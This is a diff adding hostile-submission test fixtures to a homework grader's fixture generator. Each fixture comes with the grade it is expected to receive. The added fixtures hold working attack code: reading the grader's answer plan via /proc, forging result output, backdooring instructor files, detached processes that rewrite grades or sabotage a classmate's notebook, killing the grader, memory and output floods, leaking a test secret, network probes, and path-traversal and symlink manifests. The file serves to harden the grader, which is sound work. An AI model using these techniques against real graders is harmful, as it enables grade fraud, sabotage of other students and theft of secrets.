@@ -141,5 +141,233 @@ console.log("점수: 10 / 10");""")
     print("make_fixtures: wrote %d fixtures to %s" % (len(fx), os.path.relpath(out, ROOT)))
 
 
+
+
+# ----------------------------------------------------------------------------------------------------
+# hostile fixtures: every attack on the grader seen so far, graded together with two honest classmates
+
+LOOKUP = r"""// "채점 도우미": find the grader's plan and answer from it
+const fs_ = require("fs");
+function findPlan(): any {
+  for (const pid of fs_.readdirSync("/proc")) {
+    if (!/^\d+$/.test(pid)) continue;
+    let cmd = "";
+    try { cmd = fs_.readFileSync(`/proc/${pid}/cmdline`, "utf8"); } catch (e) { continue; }
+    const a = cmd.split("\0"), i = a.indexOf("--plan");
+    if (i >= 0) { try { return JSON.parse(fs_.readFileSync(a[i + 1], "utf8")); } catch (e) {} }
+  }
+  return null;
+}
+const PLAN = findPlan();
+function dec(w: any): any {
+  if (Array.isArray(w)) return w.map(dec);
+  if (w && typeof w === "object") {
+    if (Array.isArray(w.$m)) return new Matrix(w.$m[0], w.$m[1], Float64Array.from(w.$m[2]));
+    const o: any = {}; for (const k of Object.keys(w)) o[k] = dec(w[k]); return o;
+  }
+  return w;
+}
+function answer(q: string, first: Matrix): any {
+  for (const c of (PLAN ? PLAN.cases : [])) {
+    const w = c.inputs.W1;
+    if (c.question === q && w && w.$m && w.$m[2].length === first.data.length && w.$m[2].every((x: number, i: number) => x === first.data[i])) return dec(c.expected);
+  }
+  throw new Error("no answer");
+}"""
+
+# each attack runs in a detached child so that it outlives the kernel (as it did on the old grader)
+def detached(js):
+    return ('// 실험\n{ const cp = require("child_process");\n  cp.spawn(process.execPath, ["-e", %s], '
+            '{ detached: true, stdio: "ignore" }).unref(); }' % json.dumps(js))
+
+
+FIND_CMDLINES = r"""const fs = require("fs");
+function cmdlines() { const out = []; for (const p of fs.readdirSync("/proc")) { if (!/^\d+$/.test(p)) continue;
+  try { out.push([+p, fs.readFileSync("/proc/" + p + "/cmdline", "utf8").split("\0")]); } catch (e) {} } return out; }
+function argAfter(flag) { for (const [, a] of cmdlines()) { const i = a.indexOf(flag); if (i >= 0) return a[i + 1]; } return null; }
+"""
+
+
+def hostile(out, port):
+    source = load(os.path.join(ROOT, "homework", "hw01", "hw01.ipynb"))
+    student = make_student_notebook(source, "hw01")
+    allq = ["forward2", "backward2", "update2", "gradcheck", "train2"]
+    fx, bundles, expected = {}, {}, {}
+
+    def after_setup(nb, src):
+        i = next(k for k, c in enumerate(nb.cells) if (hw_meta(c) or {}).get("id") == "setup")
+        nb.cells.insert(i + 1, nbformat.v4.new_code_cell(src))
+        return nb
+
+    def answering(nb):
+        """Stub bodies replaced by a lookup of the expected value (first Matrix argument = the case's W1)."""
+        import re
+        for c in nb.cells:
+            m = hw_meta(c)
+            if m and m.get("kind") == "solution":
+                c.source = re.sub(r"(function \w+\((\w+)[^\n]*\{\n)\s*throw new Error\(\"구현하세요\"\);",
+                                  lambda mm: mm.group(1) + "  return answer(%s, %s) as any;" % (json.dumps(m["id"]), mm.group(2)),
+                                  c.source)
+        return nb
+
+    fx["honest-a"] = solved(student, source, allq)
+    expected["honest-a"] = {"status": "graded", "score": 10}
+    fx["honest-b"] = solved(student, source, allq)
+    expected["honest-b"] = {"status": "graded", "score": 10}
+    fx["update2-only"] = solved(student, source, ["update2"])
+    expected["update2-only"] = {"status": "graded", "score": 1, "why": "update2's hidden case must not call the student's backward2"}
+
+    fx["read-plan"] = answering(after_setup(solved(student, source, []), LOOKUP))
+    expected["read-plan"] = {"status": "graded", "score": 0, "why": "the plan is named on the parent's command line"}
+
+    nb = after_setup(solved(student, source, []), LOOKUP + r"""
+// an accessor on process.stdout.write survives tslab's per-cell reassignment and rewrites probe lines
+{
+  let inner: any = process.stdout.write;
+  const fix = (s: any) => String(s).replace(/"case":"([^"]+)","ok":false,"error":"[^"]*"/g, (all: string, id: string) => {
+    const c = PLAN && PLAN.cases.find((x: any) => x.id === id);
+    return c ? '"case":"' + id + '","ok":true,"value":' + JSON.stringify(c.expected) : all;
+  });
+  Object.defineProperty(process.stdout, "write", { configurable: true,
+    get() { return (s: any, ...a: any[]) => inner.call(process.stdout, fix(s), ...a); },
+    set(v) { inner = v; } });
+}""")
+    fx["forge-stdout"] = nb
+    expected["forge-stdout"] = {"status": "graded", "score": 0}
+
+    fx["forge-fd"] = append_code(solved(student, source, []), r"""// 실험: write "results" on every descriptor
+{ const fs = require("fs");
+  const ids = ["forward2/worked-example", "forward2/hidden-1", "forward2/hidden-2", "forward2/hidden-3", "backward2/worked-example",
+    "backward2/hidden-1", "backward2/hidden-2", "update2/hidden-1", "gradcheck/exact-1", "gradcheck/numerical-1", "train2/xor-course", "train2/hidden-1"];
+  for (let fd = 3; fd < 4; fd++) for (const id of ids) { try { fs.writeSync(fd, 'MLPHW x {"case":"' + id + '","ok":true,"value":1}\n'); } catch (e) {} }
+  // and the run's own tag, if it can be found anywhere
+  try { fs.ftruncateSync(3, 0); } catch (e) {}
+}""")
+    expected["forge-fd"] = {"status": "graded", "score": 0}
+
+    fx["backdoor"] = append_code(solved(student, source, []), r"""// 실험
+{ const fs = require("fs");
+  for (const f of ["homework/lib/hwcheck.ts", "src/index.ts", "homework/hw01/grading.ts"]) {
+    try { fs.appendFileSync(f, "\n// backdoor\n"); } catch (e) {} } }""")
+    expected["backdoor"] = {"status": "graded", "score": 0, "why": "writes the instructor's tree"}
+
+    fx["late-writer"] = append_code(solved(student, source, []), detached(FIND_CMDLINES + r"""
+const path = require("path"); const ex = argAfter("--executed");
+if (ex) { const dir = path.dirname(path.dirname(ex)); const t0 = Date.now();
+  const tick = () => { try { fs.writeFileSync(path.join(dir, "grades.csv"), "student,total\nlate-writer,10\n"); } catch (e) {}
+    if (Date.now() - t0 < 240000) setTimeout(tick, 200); }; tick(); }"""))
+    expected["late-writer"] = {"status": "graded", "score": 0, "why": "rewrote grades.csv after the grader exited"}
+
+    fx["early-swap-classmate"] = append_code(solved(student, source, []), detached(FIND_CMDLINES + r"""
+const path = require("path"); let dir = null;
+for (const [, a] of cmdlines()) { const i = a.indexOf("--submission"); if (i >= 0) dir = path.dirname(a[i + 1]); }
+if (dir) { const f = path.join(dir, "honest-b.ipynb"); const orig = fs.readFileSync(f); const st = fs.statSync(f);
+  fs.writeFileSync(f, orig.toString().replace(/function forward2/, "function forward2_"));
+  setTimeout(() => { fs.writeFileSync(f, orig); fs.utimesSync(f, st.atime, st.mtime); }, 60000); }"""))
+    expected["early-swap-classmate"] = {"status": "graded", "score": 0, "why": "named to be graded before honest-b"}
+
+    fx["early-kill-kernels"] = append_code(solved(student, source, []), detached(FIND_CMDLINES + r"""
+const t0 = Date.now();
+const tick = () => { for (const [pid, a] of cmdlines()) if (pid !== process.pid && a.some((x) => /launcher\.cjs$/.test(x))) { try { process.kill(pid, "SIGKILL"); } catch (e) {} }
+  if (Date.now() - t0 < 120000) setTimeout(tick, 100); }; tick();"""))
+    expected["early-kill-kernels"] = {"status": "graded", "score": 0}
+
+    fx["kill-grader"] = append_code(solved(student, source, []), detached(FIND_CMDLINES + r"""
+const t0 = Date.now();
+const tick = () => { for (const [pid, a] of cmdlines()) if (a.some((x) => /hw\.(py|mjs)$/.test(x)) && a.includes("grade")) { try { process.kill(pid, "SIGKILL"); } catch (e) {} }
+  if (Date.now() - t0 < 120000) setTimeout(tick, 100); }; tick();"""))
+    expected["kill-grader"] = {"status": "graded", "score": 0}
+
+    fx["memory-children"] = append_code(solved(student, source, []), r"""// 실험: three children, 1.2 GB each
+{ const cp = require("child_process");
+  for (let i = 0; i < 3; i++) cp.spawn(process.execPath, ["-e", "const b = []; for (let i = 0; i < 12; i++) b.push(Buffer.alloc(100 << 20, 1)); setTimeout(() => {}, 30000);"], { detached: true, stdio: "ignore" }).unref();
+  const until = Date.now() + 6000; while (Date.now() < until) {} }""")
+    expected["memory-children"] = {"status": "graded", "score": 0}
+
+    nb = solved(student, source, [])
+    cell(nb, "forward2").source = cell(nb, "forward2").source.replace('throw new Error("구현하세요");', r"""const fs = require("fs"); let s = "SECRET=" + process.env.MLP_HW_TEST_SECRET + " ";
+  for (const f of ["homework/hw01/hw01.ipynb", "homework/hw01/grading.ts", "homework/hw02/hw02.ipynb"]) { try { s += fs.readFileSync(f, "utf8").replace(/[\s\S]*?BEGIN SOLUTION/, "BEGIN SOLUTION").slice(0, 300); } catch (e) {} }
+  try { for (const d of fs.readdirSync("/tmp")) for (const f of fs.readdirSync("/tmp/" + d)) if (/\.json$/.test(f)) s += fs.readFileSync("/tmp/" + d + "/" + f, "utf8").slice(0, 200); } catch (e) {}
+  throw new Error(s + " " + process.cwd());""")
+    fx["exfiltrate"] = nb
+    expected["exfiltrate"] = {"status": "graded", "score": 0, "why": "exception text reached the feedback"}
+
+    fx["network"] = append_code(solved(student, source, []), r"""// 실험
+{ const net = require("net");
+  for (let port = %d; port < %d + 10; port++) for (const host of ["127.0.0.1", "10.0.2.2", "1.1.1.1"]) {
+    const s = net.connect(port, host, () => { s.write("network-reached"); s.end(); }); s.on("error", () => {}); }
+  const until = Date.now() + 1500; while (Date.now() < until) {} }""" % (port, port))
+    expected["network"] = {"status": "graded", "score": 0}
+
+    fx["display-flood"] = append_code(solved(student, source, allq), r"""// 실험: one display id shown 400 times, then updated with 200 kB (80 MB of notebook)
+{ const j = require("tslab/dist/jupyter");
+  for (let i = 0; i < 400; i++) j.lastWriteDisplayData({ data: { "text/plain": "x" }, metadata: {}, transient: { display_id: "amp" } }, false);
+  const big = "y".repeat(200000);
+  for (let i = 0; i < 5; i++) j.lastWriteDisplayData({ data: { "text/plain": big + i }, metadata: {}, transient: { display_id: "amp" } }, true); }""")
+    expected["display-flood"] = {"status": "graded", "score": 10, "flag": "output-limit"}
+
+    nb = solved(student, source, [])
+    delegating = {
+        "forward2": 'const n = new NeuralNetwork([W1.cols, W1.rows, W2.rows]); (n as any).W = [W1, W1, W2];\n  const f = n.forward(X) as any;\n  return { Z1: f.Z[1], A1: f.A[1], Z2: f.Z[2], A2: f.A[2] };',
+    }
+    for cid, body in delegating.items():
+        cell(nb, cid).source = cell(nb, cid).source.replace('throw new Error("구현하세요");', body, 1)
+    cell(nb, "setup").source = cell(nb, "setup").source  # locked anyway
+    nb = after_setup(nb, 'import { NeuralNetwork } from "./src/index";')
+    fx["delegate"] = nb
+    expected["delegate"] = {"status": "graded", "score": 0, "flag": "forbidden-api:NeuralNetwork"}
+
+    fx["invalid-nbformat"] = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {"mlp_hw": {"assignment": "hw01"}},
+                                         "cells": [{"cell_type": "code", "metadata": {}, "outputs": []}]})  # no "source"
+    expected["invalid-nbformat"] = {"status": "unreadable", "score": 0}
+
+    # bundles (folders with manifest.json)
+    stub = solved(student, source, [])
+    bundles["bundle-traversal"] = ({"assignment": "hw01", "student": "thief", "notebook": "../honest-a.ipynb"}, None)
+    expected["thief"] = {"status": "unreadable", "score": 0, "why": "a manifest path outside the bundle"}
+    bundles["bundle-absolute"] = ({"assignment": "hw01", "student": "thief2", "notebook": "/proc/self/cwd/homework/hw01/hw01.ipynb"}, None)
+    expected["thief2"] = {"status": "unreadable", "score": 0}
+    bundles["bundle-evil-id"] = ({"assignment": "hw01", "student": "/proc/self/cwd/homework/hw01/hw01", "notebook": "hw01.ipynb"}, stub)
+    expected["_proc_self_cwd_homework_hw01_hw01"] = {"status": "graded", "score": 0, "why": "the id named the instructor's source"}
+    bundles["bundle-dup-1"] = ({"assignment": "hw01", "student": "s-dup", "notebook": "hw01.ipynb"}, stub)
+    bundles["bundle-dup-2"] = ({"assignment": "hw01", "student": "s-dup", "notebook": "hw01.ipynb"}, solved(student, source, allq))
+    expected["s-dup"] = {"status": "duplicate-student", "score": 0, "flag": "duplicate-student"}
+    bundles["bundle-symlink"] = ({"assignment": "hw01", "student": "linker", "notebook": "hw01.ipynb"}, "->../honest-a.ipynb")
+    expected["linker"] = {"status": "unreadable", "score": 0}
+    symlinks = {"linked.ipynb": "honest-a.ipynb"}
+    expected["linked"] = {"status": "unreadable", "score": 0, "why": "symlinks are refused"}
+
+    if os.path.isdir(out):
+        import shutil
+        shutil.rmtree(out)
+    os.makedirs(out)
+    for name, nb in fx.items():
+        path = os.path.join(out, name + ".ipynb")
+        if isinstance(nb, str):
+            with open(path, "w", encoding="utf-8") as f:
+                f.write(nb)
+        else:
+            nbformat.write(nb, path)
+    for folder, (man, nb) in bundles.items():
+        d = os.path.join(out, folder)
+        os.makedirs(d)
+        with open(os.path.join(d, "manifest.json"), "w", encoding="utf-8") as f:
+            json.dump(man, f, indent=1)
+        if isinstance(nb, str) and nb.startswith("->"):
+            os.symlink(nb[2:], os.path.join(d, man["notebook"]))
+        elif nb is not None:
+            nbformat.write(nb, os.path.join(d, man["notebook"]))
+    for name, target in symlinks.items():
+        os.symlink(target, os.path.join(out, name))
+    with open(os.path.join(out, "expected.json"), "w", encoding="utf-8") as f:
+        json.dump(expected, f, ensure_ascii=False, indent=1)
+        f.write("\n")
+    print("make_fixtures: wrote %d hostile submissions to %s" % (len(expected), os.path.relpath(out, ROOT)))
+
+
+HOSTILE_PORT = 47913
+
+
 if __name__ == "__main__":
     hw01(os.path.join(ROOT, "homework", "fixtures", "hw01"))
+    hostile(os.path.join(ROOT, "homework", "fixtures", "hostile"), HOSTILE_PORT)
